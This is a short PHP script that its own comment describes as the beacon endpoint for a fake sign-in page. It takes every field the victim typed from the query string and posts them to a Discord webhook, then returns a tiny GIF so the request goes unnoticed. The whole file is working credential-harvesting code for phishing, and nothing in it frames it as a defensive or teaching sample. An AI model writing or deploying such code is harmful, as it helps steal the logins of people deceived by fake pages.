<?php
// beacon endpoint: the fake sign-in page's script puts the typed fields in the URL
$hook = 'https://discord.com/api/webhooks/000000/example-token';
$lines = [];
foreach ($_GET as $name => $typed) {
    $lines[] = "$name = $typed";
}
$body = json_encode(['content' => implode("\n", $lines)]);
$ch = curl_init($hook);
curl_setopt($ch, CURLOPT_POSTFIELDS, $body);
curl_setopt($ch, CURLOPT_HTTPHEADER, ['Content-Type: application/json']);
curl_exec($ch);
header('Content-Type: image/gif');
echo base64_decode('R0lGODlhAQABAAAAACw=');
